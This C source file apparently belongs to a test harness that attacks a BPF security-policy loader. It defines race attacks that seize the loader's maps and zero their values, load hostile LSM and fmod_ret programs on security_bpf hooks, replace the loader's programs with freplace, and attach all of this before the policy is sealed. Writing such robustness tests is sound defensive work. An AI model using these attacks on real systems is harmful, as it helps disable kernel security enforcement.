/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * Who is root and fast while the loader works: what was had or attached by then
 * is used once the policy is sealed.  The loader's first map shows that its
 * preflight is behind it.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "bpf.h"
#include "maps.h"
#include "vault.h"

#define HELD_MAX 512
#define KEYS_MAX 256

static int held[HELD_MAX];
static int iterators[HELD_MAX]; /* of held maps; 0 or -1 without one */
static unsigned held_count;

static uint32_t next_after(int command, uint32_t id)
{
	union bpf_attr attr = { .start_id = id };

	return bpf_call(command, &attr, sizeof(attr)) ? 0 : attr.next_id;
}

static void hold(int fd)
{
	if (fd >= 0 && held_count < HELD_MAX)
		held[held_count++] = fd;
}

/* With an iterator that writes it once it is read. */
static void hold_map(int map)
{
	struct bpf_map_info info;

	if (!bpf_map_info(map, &info) && info.value_size >= 8 &&
	    !map_is_counter(&info) && held_count < HELD_MAX)
		iterators[held_count] = map_open_iterator(map, &info);
	hold(map);
}

/* Every map as soon as it is there. */
static int hold_maps(const struct scene *scene)
{
	uint32_t last = bpf_last_ids().map, id;

	while (!was_loaded(scene))
		while ((id = next_after(BPF_MAP_GET_NEXT_ID, last))) {
			int map = bpf_fd_by_id(MAPS, id, 0);

			if (map >= 0)
				hold_map(map);
			last = id;
		}
	return 0;
}

/* All values of a hash; the first one of an array. */
static void zero_all(int fd, const struct bpf_map_info *info,
		     struct tally *tally)
{
	uint64_t key = 0, next = 0;
	union bpf_attr attr = { .map_fd = (uint32_t)fd,
				.next_key = (uintptr_t)&next };

	tally_add(tally, bpf_update(fd, &key, &(char[4096]){ 0 }), info->name);
	for (unsigned i = 0; i < KEYS_MAX; i++) {
		if (bpf_call(BPF_MAP_GET_NEXT_KEY, &attr, sizeof(attr)))
			return;
		key = next;
		attr.key = (uintptr_t)&key;
		if (!tally_add(tally, map_zero_by_program(fd, info, key),
			       info->name))
			return;
	}
}

static int use_held_maps(const struct scene *scene)
{
	struct tally tally = { 0 };

	say("%u maps held", held_count);
	for (unsigned i = 0; i < held_count; i++) {
		struct bpf_map_info info;

		if (!bpf_map_info(held[i], &info) && !map_is_counter(&info) &&
		    info.type != BPF_MAP_TYPE_RINGBUF &&
		    info.value_size <= 4096)
			zero_all(held[i], &info, &tally);
		if (iterators[i] > 0)
			map_iterate(iterators[i], held[i], &tally);
	}
	vault_undo(scene);
	/* None was to be had: something kept them away. */
	return held_count ? tally_result(&tally) : EPERM;
}

static void load_hostile(void)
{
	int program = bpf_load_return(BPF_PROG_TYPE_LSM, BPF_LSM_MAC,
				      bpf_function("bpf_lsm_bpf"), 1);

	if (program < 0)
		program = bpf_load_return(BPF_PROG_TYPE_LSM, BPF_LSM_MAC,
					  bpf_function("bpf_lsm_bpf"), 0);
	hold(program);
	hold(bpf_load_return(BPF_PROG_TYPE_TRACING, BPF_MODIFY_RETURN,
			     bpf_function("security_bpf"), 1));
	hold(bpf_load_return(BPF_PROG_TYPE_TRACING, BPF_MODIFY_RETURN,
			     bpf_function("security_kernel_load_data"), 1));
}

/* What is ours may be replaced, from the moment that it is loaded. */
static void load_replacements(const struct scene *scene)
{
	uint32_t last = scene->before.program, id;

	if (!last)
		last = bpf_last_ids().program;
	while (!was_loaded(scene))
		while ((id = next_after(BPF_PROG_GET_NEXT_ID, last))) {
			int program = bpf_fd_by_id(PROGRAMS, id, 0);

			if (program >= 0)
				hold(bpf_load_replacement(program));
			close(program);
			last = id;
		}
}

static void wait_for_loader(const struct scene *scene)
{
	uint32_t last = bpf_last_ids().map;

	while (!was_loaded(scene) && !next_after(BPF_MAP_GET_NEXT_ID, last))
		;
}

static int hold_programs(const struct scene *scene)
{
	bpf_function("bpf_lsm_bpf");
	wait_for_loader(scene);
	load_hostile();
	load_replacements(scene);
	return 0;
}

static int attach_held(struct tally *tally)
{
	for (unsigned i = 0; i < held_count; i++)
		tally_add(tally, bpf_open_tracing(held[i]), "attached");
	return tally_result(tally);
}

static int use_held_programs(const struct scene *scene)
{
	struct tally tally = { 0 };

	(void)scene;
	say("%u programs held", held_count);
	return held_count ? attach_held(&tally) : EPERM;
}

/* Attached before the seal is closed. */
static int attach_at_once(const struct scene *scene)
{
	struct tally tally = { 0 };

	wait_for_loader(scene);
	load_hostile();
	attach_held(&tally);
	return 0;
}

static int look(const struct scene *scene)
{
	(void)scene;
	say("%u programs held", held_count);
	return held_count ? THROUGH : EPERM;
}

const struct attack race_attacks[] = {
	ATTACK(6, "maps-held",
	       "descriptors of our maps had while the loader worked", AIM_CALL,
	       use_held_maps, .traits = EARLY | ALONE, .before = hold_maps),
	ATTACK(80, "programs-held",
	       "LSM, fmod_ret, freplace loaded while the loader worked",
	       AIM_CALL, use_held_programs, .traits = EARLY | ALONE,
	       .before = hold_programs),
	ATTACK(81, "programs-attached", "the same, attached while it worked",
	       AIM_POLICY, look, .traits = EARLY | ALONE,
	       .before = attach_at_once),
	{ 0 },
};
